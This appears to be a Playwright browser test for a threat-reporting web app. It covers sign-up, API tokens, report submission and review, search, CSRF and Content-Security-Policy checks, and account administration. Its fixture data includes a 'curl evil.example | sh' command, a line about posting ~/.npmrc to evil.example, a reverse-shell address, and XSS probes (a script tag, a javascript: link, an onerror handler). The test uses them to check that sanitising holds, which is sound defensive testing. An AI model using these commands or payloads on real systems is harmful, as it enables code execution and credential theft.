// threatd's web journey in a real browser: headless Chromium (Debian's
// package) driven by playwright-core. TestWebBrowser (cmd/threatd) starts
// a real daemon over HTTPS, runs this script against it, and checks what
// the script reports with the API; `make screenshots` runs it to refresh
// docs/screenshots/.
//
// Environment:
//   THREATD_URL          https://127.0.0.1:PORT of the daemon
//   THREATD_API_BASE     the API's base path (/functions/v1)
//   REVIEWER_EMAIL       a reviewer with a password (threatd user set-password)
//   REVIEWER_PASSWORD
//   SCREENSHOT_DIR       where the pages' screenshots go
//   CHROMIUM             the browser (default /usr/bin/chromium)
//
// Every page is checked as it is shown: no console error, no uncaught
// exception, no Content-Security-Policy violation, every form control
// named (a label, or aria-label for buttons), one h1 and a main landmark,
// and no horizontal scrolling on a phone-sized screen. The names
// docs/web.md gives are found by role and accessible name, as people
// using assistive technology and scripts find them. On failure the script
// prints the reason and exits 1; on success it prints one JSON object with
// what it created, for the Go test to check through the API.
import { chromium, request } from "playwright-core";
import {
  env, BASE, API, check, expected, watch, newContext, audit, phoneCheck, shot, capture, go, submitForm, role, nav, logIn, launch, finish,
} from "./lib.mjs";

const REVIEWER = { email: env("REVIEWER_EMAIL"), password: env("REVIEWER_PASSWORD") };
// Three other users' tokens (false-positive votes) and the reviewer's
// (a campaign through the API).
const VOTERS = env("VOTER_TOKENS").split(",");
const REVIEWER_TOKEN = env("REVIEWER_TOKEN");

const stamp = Date.now().toString(36);
const apiPkg = `browser-evil-${stamp}`;
const formPkg = `browser-form-${stamp}`;
const payload = [
  "Runs `curl evil.example | sh` on install.",
  "",
  "<script>window.__xss = 'script'</script>",
  "",
  "[details](javascript:window.__xss='link') and [analysis](https://blog.example/post)",
  "",
  "<img src=x onerror=\"window.__xss='onerror'\">",
  "",
  "- steals `~/.npmrc`",
  "- posts it to **evil.example**",
].join("\n");

const browser = await launch(chromium);
await finish(browser, async () => {
  const out = {};
  // An anonymous visitor: the home page and its names.
  const anonCtx = await newContext(browser);
  const anon = watch(await anonCtx.newPage(), "anonymous");
  await go(anon, "/");
  for (const n of ["Log in", "Sign up"]) await role(anon, "link", n).waitFor();
  await role(anon, "heading", "Latest verified threats").waitFor();
  await shot(anon, "home");

  // Sign up: a short password is refused next to its field, the input kept.
  const samCtx = await newContext(browser);
  await samCtx.grantPermissions(["clipboard-read", "clipboard-write"], { origin: BASE });
  const sam = watch(await samCtx.newPage(), "sam");
  await go(sam, "/");
  await Promise.all([sam.waitForURL("**/signup"), nav(sam, "link", "Sign up").click()]);
  await sam.getByLabel("Email", { exact: true }).fill(`sam-${stamp}@example.com`);
  await sam.getByLabel("Public name", { exact: true }).fill("Sam S");
  await sam.getByLabel("Password", { exact: true }).fill("short pw");
  // The browser's own check (minlength) would stop this one; the server's is what is tested.
  await sam.evaluate(() => document.querySelector("form[action='/signup']").setAttribute("novalidate", ""));
  expected.push(/status of 400/);
  await submitForm(sam, role(sam, "button", "Sign up"), 400);
  check(await sam.getByLabel("Password", { exact: true }).getAttribute("aria-invalid") === "true", "the short password is not marked invalid");
  check((await sam.getByText("Password must be at least 10 characters").count()) === 1, "no error next to the password");
  check(await sam.getByLabel("Email", { exact: true }).inputValue() === `sam-${stamp}@example.com`, "the e-mail was not kept");
  check(await sam.getByLabel("Public name", { exact: true }).inputValue() === "Sam S", "the public name was not kept");
  await shot(sam, "signup-error");
  await sam.getByLabel("Password", { exact: true }).fill("a long enough password");
  await submitForm(sam, role(sam, "button", "Sign up"));
  await nav(sam, "button", "Log out").waitFor();

  // Settings → API Tokens → Generate Token: shown once, copyable.
  await go(sam, "/");
  await Promise.all([sam.waitForURL("**/settings/account"), nav(sam, "link", "Settings").click()]);
  await Promise.all([sam.waitForURL("**/settings/tokens"), role(sam, "link", "API Tokens").click()]);
  await sam.getByLabel("Token name", { exact: true }).fill("ci-pipeline");
  await submitForm(sam, role(sam, "button", "Generate Token"));
  const token = (await sam.locator("#new-token").textContent()).trim();
  check(/^thd_[0-9A-Za-z]{38}$/.test(token), `the new token looks wrong: ${token}`);
  const copy = role(sam, "button", "Copy");
  await copy.click();
  await role(sam, "button", "Copied").waitFor();
  check(await sam.evaluate(() => navigator.clipboard.readText()) === token, "Copy did not put the token on the clipboard");
  await shot(sam, "tokens-new");
  await go(sam, "/settings/tokens"); // the token is gone, its hint stays
  check(!(await sam.content()).includes(token), "the token is shown again after the page that created it");
  await role(sam, "cell", "thd_…" + token.slice(-4)).waitFor();
  await role(sam, "button", "Revoke").waitFor();

  // Submit through the API with the new token.
  const api = await request.newContext({ ignoreHTTPSErrors: true });
  const headers = { Authorization: `Bearer ${token}` };
  let r = await api.post(`${API}/submit-threat-report`, {
    headers,
    data: {
      report_type: "package", resource_identifier: apiPkg, registry: "npm",
      threat_description: "Steals npm tokens on install", payload_description: payload,
      severity_level: "high", evidence_references: "https://blog.example/post",
      contact_email: "sam-private@example.com",
    },
  });
  check(r.status() === 201, `submit through the API: ${r.status()} ${await r.text()}`);
  const apiID = (await r.json()).threat_id;
  out.api_threat_id = apiID;
  out.package = apiPkg;
  out.token = token;

  // My submissions: the report, pending.
  await Promise.all([sam.waitForURL("**/me/submissions"), nav(sam, "link", "My submissions").click()]);
  const row = sam.getByRole("row").filter({ hasText: apiPkg });
  await row.waitFor();
  check((await row.textContent()).includes("pending"), `My submissions does not show ${apiPkg} pending: ${await row.textContent()}`);
  await shot(sam, "my-submissions");

  // Submit a report through the form.
  await Promise.all([sam.waitForURL("**/submit"), nav(sam, "link", "Submit a report").click()]);
  await sam.getByLabel("Report type *").selectOption("package");
  await sam.getByLabel("Resource identifier *").fill(formPkg);
  await sam.getByLabel("Registry").selectOption("pypi");
  await sam.getByLabel("Affected versions").fill("0.1.0, 0.1.1");
  await sam.getByLabel("Threat description *").fill("Typosquat that opens a reverse shell");
  await sam.getByLabel("Payload description").fill("Opens a shell to `203.0.113.9:4444`.");
  await sam.getByLabel("Severity").selectOption("critical");
  await sam.getByLabel("Evidence references").fill("https://blog.example/a|https://blog.example/b");
  await sam.getByLabel("Tags").fill("typosquat, reverse-shell");
  await sam.getByLabel("First seen").fill("last Tuesday");
  // A field the server refuses: shown next to it, the input kept.
  expected.push(/status of 400/);
  await submitForm(sam, role(sam, "button", "Submit a report"), 400);
  const seen = sam.getByLabel("First seen");
  check(await seen.getAttribute("aria-invalid") === "true", "first_seen is not marked invalid");
  const errID = (await seen.getAttribute("aria-describedby")).split(" ").pop();
  check((await sam.locator(`#${errID}`).textContent()).startsWith("First seen"), "the first_seen error is not tied to its field, in the form's words");
  check((await sam.locator(".error-summary a[href='#first_seen']").count()) === 1, "the error summary does not link to the field");
  check(await sam.getByLabel("Resource identifier *").inputValue() === formPkg, "the form lost the identifier");
  check(await sam.getByLabel("Registry").inputValue() === "pypi", "the form lost the registry");
  check(await sam.getByLabel("Severity").inputValue() === "critical", "the form lost the severity");
  await shot(sam, "submit-error");
  await seen.fill("2026-11-20T14:00:00Z");
  await shot(sam, "submit");
  await submitForm(sam, role(sam, "button", "Submit a report"));
  const landed = new URL(sam.url()).pathname;
  check(/^\/threats\/[0-9a-f-]{36}$/.test(landed), `the form did not land on the new report: ${sam.url()}`);
  const formID = landed.split("/").pop();
  out.form_threat_id = formID;
  out.form_package = formPkg;
  await sam.getByText("pending", { exact: true }).first().waitFor();
  await sam.getByText("Your report was submitted.", { exact: false }).waitFor();
  check(!sam.url().includes("?"), `the page after submitting carries a query: ${sam.url()}`);
  await shot(sam, "threat-pending");
  // The flash is shown once.
  await go(sam, landed);
  check((await sam.getByText("Your report was submitted.", { exact: false }).count()) === 0, "the submitted message is shown again");

  // A pending report is 404 to anyone but its submitter and reviewers.
  expected.push(/status of 404/);
  await go(anon, `/threats/${formID}`, 404);
  await audit(anon, "not-found");

  // A form posted without its CSRF token is refused, and nothing is made.
  await go(sam, "/settings/tokens");
  await sam.getByLabel("Token name", { exact: true }).fill("forged");
  await sam.evaluate(() => document.querySelector("form[action='/settings/tokens'] input[name=csrf_token]").remove());
  expected.push(/status of 403/);
  await submitForm(sam, role(sam, "button", "Generate Token"), 403);
  await go(sam, "/settings/tokens");
  check((await sam.getByRole("cell", { name: "forged", exact: true }).count()) === 0, "a token was made by a form without its CSRF token");

  // A submitter has no review queue.
  check((await nav(sam, "link", "Review queue").count()) === 0, "a submitter sees the Review queue link");

  // The reviewer logs in and verifies the API's report in the queue.
  const ritaCtx = await newContext(browser);
  const rita = watch(await ritaCtx.newPage(), "reviewer");
  await go(rita, "/");
  await Promise.all([rita.waitForURL("**/login**"), nav(rita, "link", "Log in").click()]);
  await rita.getByLabel("Email", { exact: true }).fill(REVIEWER.email);
  await rita.getByLabel("Password", { exact: true }).fill(REVIEWER.password);
  await submitForm(rita, role(rita, "button", "Log in"));
  await Promise.all([rita.waitForURL("**/review"), nav(rita, "link", "Review queue").click()]);
  const item = rita.locator("article").filter({ hasText: apiPkg });
  await item.waitFor();
  check((await item.locator(".markdown code").first().textContent()) === "curl evil.example | sh", "the queue does not render the payload's Markdown");
  await shot(rita, "review-queue");
  // Reject without a note is refused; verify with one is done.
  await submitForm(rita, item.getByRole("button", { name: "Reject", exact: true }));
  await rita.getByText("a note is required to reject").waitFor();
  const again = rita.locator("article").filter({ hasText: apiPkg });
  await again.getByLabel("Note", { exact: true }).fill("Confirmed: the postinstall script posts ~/.npmrc");
  await submitForm(rita, again.getByRole("button", { name: "Verify", exact: true }));
  await rita.getByText(`Done: package ${apiPkg} is verified.`).waitFor();

  // check-malicious says malicious at once.
  r = await api.get(`${API}/check-malicious?report_type=package&resource_identifier=${apiPkg}&ecosystem=npm`, { headers });
  const verdict = await r.json();
  check(r.status() === 200 && verdict.malicious === true, `check-malicious right after Verify: ${r.status()} ${JSON.stringify(verdict)}`);

  // The public page: Markdown rendered, the hostile parts inert.
  await go(anon, `/threats/${apiID}`);
  const md = anon.locator(".markdown");
  check((await md.locator("code").first().textContent()) === "curl evil.example | sh", "the public page does not render the Markdown");
  check((await md.locator("li").count()) === 2, "the Markdown list is not rendered");
  check((await md.locator("script, [onerror], [onclick], a[href^='javascript:' i], iframe, object").count()) === 0, "hostile markup survived sanitising");
  const link = md.getByRole("link", { name: "analysis" });
  const rel = (await link.getAttribute("rel")) || "";
  check(rel.includes("nofollow") && rel.includes("noopener"), `a payload link has rel="${rel}"`);
  const details = md.getByText("details", { exact: true });
  if (await details.count()) await details.first().click();
  await anon.waitForTimeout(300);
  check(await anon.evaluate(() => window.__xss) === undefined, "a payload ran script in the visitor's browser");
  check(!(await anon.content()).includes("sam-private@example.com"), "the public page shows the contact e-mail");
  await anon.getByText("Confirmed: the postinstall script posts ~/.npmrc").waitFor();
  await shot(anon, "threat");
  // The CSP itself: an inline script injected into the page does not run
  // and is reported (this also shows the violation listener works).
  expected.push(/Content Security Policy/);
  await anon.evaluate(() => {
    const s = document.createElement("script");
    s.textContent = "window.__xss = 'injected'";
    document.body.append(s);
  });
  await anon.waitForTimeout(200);
  check(await anon.evaluate(() => window.__xss) === undefined, "an injected inline script ran: the CSP does not hold");
  const csp = await anon.evaluate(() => window.__csp.splice(0));
  check(csp.length === 1 && csp[0].startsWith("script-src"), `the injected script was not reported as a CSP violation: ${JSON.stringify(csp)}`);

  // The home page's one search box: a purl, a name prefix, a defanged
  // indicator; and the latest list.
  const box = "Search a package, purl, URL, domain, IP address, wallet or container image";
  const search = async (text) => {
    await go(anon, "/");
    await anon.getByLabel(box).fill(text);
    await Promise.all([anon.waitForURL("**/?q=**"), role(anon, "button", "Search").click()]);
  };
  await search(`pkg:npm/${apiPkg}`);
  await anon.locator(".verdict.bad .verdict-title").filter({ hasText: "Malicious" }).waitFor();
  await anon.getByRole("row").filter({ hasText: apiPkg }).waitFor();
  await shot(anon, "search");
  await search(apiPkg.slice(0, -3));
  await anon.getByRole("heading", { name: `Packages whose names start with “${apiPkg.slice(0, -3)}”` }).waitFor();
  await search("evil[.]example");
  await anon.locator(".verdict.warn .verdict-title").filter({ hasText: "Named as an indicator" }).waitFor();
  await anon.getByText("named as an indicator in").first().waitFor();
  await shot(anon, "search-indicator");
  // The advanced fields stay behind a toggle.
  await go(anon, "/");
  check(!(await anon.getByLabel("or a package URL (purl)").isVisible()), "the advanced fields show without the toggle");
  await anon.getByText("Advanced search").click();
  await anon.getByLabel("or a package URL (purl)").waitFor();

  // Browsing every verified threat, filtered.
  await go(anon, "/threats?type=package&ecosystem=npm");
  await anon.getByRole("row").filter({ hasText: apiPkg }).waitFor();
  await anon.getByText("1 verified threat", { exact: false }).waitFor();
  await shot(anon, "browse");

  // A browser gets an HTML page for an unknown address.
  expected.push(/status of 404/);
  await go(anon, "/no-such-page", 404);
  await anon.getByText("There is no page at this address", { exact: false }).waitFor();
  await audit(anon, "not-found-page");

  // Revoking a token asks first.
  await go(sam, "/settings/tokens");
  await submitForm(sam, role(sam, "button", "Revoke"));
  await sam.getByRole("heading", { name: "Revoke token “ci-pipeline”?" }).waitFor();
  await shot(sam, "revoke-confirm");
  await Promise.all([sam.waitForURL("**/settings/tokens"), role(sam, "link", "Cancel").click()]);
  await role(sam, "button", "Revoke").waitFor();

  // On a phone-sized screen nothing scrolls sideways.
  const phoneCtx = await newContext(browser, { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
  const phone = watch(await phoneCtx.newPage(), "phone");
  const phonePages = [["/", "home"], [`/threats/${apiID}`, "threat"], ["/login", "login"], ["/signup", "signup"],
    ["/threats", "browse"], [`/?q=pkg:npm/${apiPkg}`, "search"], ["/?q=evil[.]example", "search-indicator"]];
  for (const [path, name] of phonePages) {
    await go(phone, path);
    await phoneCheck(phone, path);
    await capture(phone, `phone-${name}.png`);
  }
  // The reviewer's pages on a phone: the queue and a revision's diff.
  const ritaPhone = watch(await (await newContext(browser, { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true,
    storageState: await ritaCtx.storageState() })).newPage(), "reviewer-phone");
  for (const [path, name] of [["/review", "review-queue"], ["/me/submissions", "my-submissions"], ["/settings/tokens", "tokens"]]) {
    await go(ritaPhone, path);
    await phoneCheck(ritaPhone, path);
    await capture(ritaPhone, `phone-${name}.png`);
  }

  // Log out: the session ends.
  await submitForm(sam, nav(sam, "button", "Log out"));
  await nav(sam, "link", "Log in").waitFor();
  await go(sam, "/settings/tokens");
  check(sam.url().includes("/login"), `after Log out, /settings/tokens is ${sam.url()}`);

  // Settings → Account, with Sam logged in twice: rename, a wrong current
  // password refused, the password changed and the other session ended.
  const samEmail = `sam-${stamp}@example.com`;
  const elsewhere = watch(await (await newContext(browser)).newPage(), "sam-elsewhere");
  await logIn(elsewhere, samEmail, "a long enough password");
  await logIn(sam, samEmail, "a long enough password");
  await go(sam, "/");
  await Promise.all([sam.waitForURL("**/settings/account"), nav(sam, "link", "Settings").click()]);
  await sam.getByText("In this browser and 1 other session.").waitFor();
  await sam.getByLabel("Public name", { exact: true }).fill("Sam Smith");
  await submitForm(sam, role(sam, "button", "Save name"));
  await sam.getByText("Your public name is now “Sam Smith”.").waitFor();
  await sam.getByLabel("Current password", { exact: true }).fill("not my password at all");
  await sam.getByLabel("New password", { exact: true }).fill("an even longer password");
  expected.push(/status of 400/);
  await submitForm(sam, role(sam, "button", "Change password"), 400);
  await sam.getByText("This is not your current password.").waitFor();
  check(await sam.getByLabel("Current password", { exact: true }).getAttribute("aria-invalid") === "true", "the wrong current password is not marked invalid");
  await sam.getByLabel("Current password", { exact: true }).fill("a long enough password");
  await sam.getByLabel("New password", { exact: true }).fill("an even longer password");
  await submitForm(sam, role(sam, "button", "Change password"));
  await sam.getByText("Your password is changed. Your 1 other session is logged out.").waitFor();
  await sam.getByText("Only in this browser.").waitFor();
  await shot(sam, "account");
  await go(elsewhere, "/me/submissions");
  check(elsewhere.url().includes("/login"), `the other session survived the password change: ${elsewhere.url()}`);

  // The account pages on a phone.
  const samPhone = watch(await (await newContext(browser, { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true,
    storageState: await samCtx.storageState() })).newPage(), "sam-phone");
  await go(samPhone, "/settings/account");
  await phoneCheck(samPhone, "/settings/account");
  await capture(samPhone, "phone-account.png");
  await go(ritaPhone, "/admin/users");
  await phoneCheck(ritaPhone, "/admin/users");
  await capture(ritaPhone, "phone-users.png");

  // An administrator disables Sam (after a confirmation): Sam's session
  // and token are refused at once and the log-in says why; then enables.
  await go(rita, "/");
  await Promise.all([rita.waitForURL("**/admin/users"), nav(rita, "link", "Users").click()]);
  await rita.getByLabel("Find by e-mail", { exact: true }).fill(samEmail);
  await Promise.all([rita.waitForURL("**/admin/users?email=**"), role(rita, "button", "Find").click()]);
  const samRow = rita.getByRole("row").filter({ hasText: samEmail });
  await submitForm(rita, samRow.getByRole("button", { name: "Disable", exact: true }));
  await rita.getByRole("heading", { name: `Disable ${samEmail}?` }).waitFor();
  await shot(rita, "disable-confirm");
  await submitForm(rita, role(rita, "button", "Disable account"));
  await rita.getByText(`${samEmail} is disabled: 1 token revoked, 1 session ended.`).waitFor();
  await shot(rita, "users");
  await go(sam, "/me/submissions");
  check(sam.url().includes("/login"), `a disabled user's session still works: ${sam.url()}`);
  r = await api.get(`${API}/account`, { headers });
  check(r.status() === 401, `a disabled user's token: ${r.status()}`);
  expected.push(/status of 403/);
  await logIn(sam, samEmail, "an even longer password", 403);
  await sam.getByText("This account is disabled.", { exact: false }).waitFor();
  await submitForm(rita, rita.getByRole("row").filter({ hasText: samEmail }).getByRole("button", { name: "Enable", exact: true }));
  await rita.getByText(`${samEmail} is enabled`, { exact: false }).waitFor();

  // The firewall page: a waiver with a duration that does not parse is
  // refused beside the form (nothing made), then made, listed and removed.
  await go(rita, "/");
  await Promise.all([rita.waitForURL("**/admin/firewall"), nav(rita, "link", "Firewall").click()]);
  await rita.getByLabel("Package name or glob", { exact: true }).fill("left-pad");
  await rita.getByLabel("Version (empty: every version)", { exact: true }).fill("1.3.0");
  await rita.getByLabel("Rule lifted", { exact: true }).selectOption("quarantine");
  await rita.getByLabel("Reason", { exact: true }).fill("a security fix we need today");
  await rita.getByLabel("For", { exact: true }).fill("soon");
  expected.push(/status of 400/);
  await submitForm(rita, role(rita, "button", "Make waiver"), 400);
  await rita.getByText('for: "soon" is not a duration', { exact: false }).waitFor();
  check(await rita.getByText("No waivers in force.").count() === 1, "a refused waiver was made");
  await rita.getByLabel("For", { exact: true }).fill("24h");
  await submitForm(rita, role(rita, "button", "Make waiver"));
  const waiverRow = rita.getByRole("row").filter({ hasText: "left-pad" });
  await waiverRow.getByText("a security fix we need today").waitFor();
  await shot(rita, "firewall");
  await submitForm(rita, waiverRow.getByRole("button", { name: "Remove", exact: true }));
  await rita.getByText("No waivers in force.").waitFor();

  // Community: three other users vote the API's report a false positive,
  // which puts it back in the queue as disputed, still published; the
  // reviewer reads the votes and keeps it.
  for (const v of VOTERS) {
    r = await api.post(`${API}/sightings`, { headers: { Authorization: `Bearer ${v}` },
      data: { threat_id: apiID, type: "false_positive", note: "an internal package of ours" } });
    check(r.status() === 201, `a false-positive vote: ${r.status()} ${await r.text()}`);
  }
  await go(rita, "/review");
  const disputed = rita.locator("article.disputed").filter({ hasText: apiPkg });
  await disputed.waitFor();
  check((await disputed.getByText("an internal package of ours").count()) === 3, "the disputed report's votes are not listed");
  await shot(rita, "review-disputed");
  await disputed.getByLabel("Note", { exact: true }).fill("The postinstall script does post ~/.npmrc: it stands");
  await submitForm(rita, disputed.getByRole("button", { name: "Keep", exact: true }));
  await rita.getByText(`Done: package ${apiPkg} is verified.`).waitFor();
  await rita.getByText("No disputed reports.").waitFor();
  // Its page: the community's part, then a campaign that holds it.
  r = await api.post(`${API}/campaigns`, { headers: { Authorization: `Bearer ${REVIEWER_TOKEN}` },
    data: { name: "Token thieves", description: "Packages that post **npm tokens** to their authors.", threat_ids: [apiID] } });
  check(r.status() === 201, `a campaign: ${r.status()} ${await r.text()}`);
  const campaignID = (await r.json()).campaign_id;
  out.campaign_id = campaignID;
  await go(anon, `/threats/${apiID}`);
  const community = anon.getByRole("region", { name: "Community" });
  await community.getByText("false positive 3").waitFor();
  await community.getByRole("link", { name: "Token thieves" }).waitFor();
  await shot(anon, "threat-community");
  await Promise.all([anon.waitForURL(`**/campaigns/${campaignID}`), community.getByRole("link", { name: "Token thieves" }).click()]);
  await role(anon, "heading", "Campaign: Token thieves").waitFor();
  await anon.getByRole("link", { name: apiPkg }).waitFor();
  check((await anon.locator(".markdown strong").textContent()) === "npm tokens", "the campaign's description is not rendered");
  await shot(anon, "campaign");
  // The reviewers' campaigns page: the campaign listed, suggestions worked
  // out on demand; on the campaign's page its reports removed and added.
  await go(rita, "/");
  await Promise.all([rita.waitForURL("**/review/campaigns"), nav(rita, "link", "Campaigns").click()]);
  await rita.getByRole("link", { name: "Token thieves" }).waitFor();
  await submitForm(rita, role(rita, "button", "Find suggestions"));
  await rita.getByText(/\d+ suggestions? from \d+ verified reports? in/).waitFor();
  await shot(rita, "review-campaigns");
  await go(rita, `/campaigns/${campaignID}`);
  await rita.getByLabel("Reports to remove", { exact: true }).fill(apiID);
  await submitForm(rita, role(rita, "button", "Remove reports"));
  await rita.getByText("Campaign “Token thieves” has 0 reports.").waitFor();
  await rita.getByLabel("Reports to add", { exact: true }).fill(apiID);
  await submitForm(rita, role(rita, "button", "Add reports"));
  await rita.getByText("Campaign “Token thieves” has 1 report.").waitFor();
  // The leaderboard, and Sam's public profile from it: no e-mail address.
  await go(anon, "/leaderboard?period=all");
  const samOnBoard = anon.getByRole("row").filter({ hasText: "Sam Smith" });
  await samOnBoard.waitFor();
  await shot(anon, "leaderboard");
  await Promise.all([anon.waitForURL("**/users/**"), samOnBoard.getByRole("link", { name: "Sam Smith" }).click()]);
  await role(anon, "heading", "Sam Smith").waitFor();
  await anon.getByRole("link", { name: `package ${apiPkg}` }).waitFor();
  check(!(await anon.content()).includes("@example.com"), "the public profile shows an e-mail address");
  await shot(anon, "profile");
  // A source's profile beside a person who took its name: one page
  // heading, the source marked and first.
  await go(anon, "/users/urlhaus");
  await anon.getByText("2 contributors use this name").waitFor();
  const sections = anon.locator("section.profile");
  check(await sections.count() === 2, "the urlhaus profile page does not show two accounts");
  check((await sections.nth(0).innerText()).includes("Import source:"), "the source is not the first account on its name's page");
  check(!(await sections.nth(1).innerText()).includes("Import source"), "the person named urlhaus is marked an import source");
  await shot(anon, "profile-source");
  for (const [path, name] of [[`/campaigns/${campaignID}`, "campaign"], ["/leaderboard?period=all", "leaderboard"],
    ["/users/Sam%20Smith", "profile"], ["/users/urlhaus", "profile-source"], [`/threats/${apiID}`, "threat-community"]]) {
    await go(phone, path);
    await phoneCheck(phone, path);
    await capture(phone, `phone-${name}.png`);
  }

  // Sam deletes the account: the box and the password are required.
  await logIn(sam, samEmail, "an even longer password");
  await go(sam, "/settings/account");
  await sam.getByLabel("I understand that this cannot be undone").check();
  await sam.getByLabel("Your password", { exact: true }).fill("an even longer password");
  await submitForm(sam, role(sam, "button", "Delete my account"));
  await sam.getByRole("heading", { name: "Your account is deleted" }).waitFor();
  await shot(sam, "account-deleted");
  await nav(sam, "link", "Log in").waitFor();
  expected.push(/status of 401/);
  await logIn(sam, samEmail, "an even longer password", 401);

  return out;
});
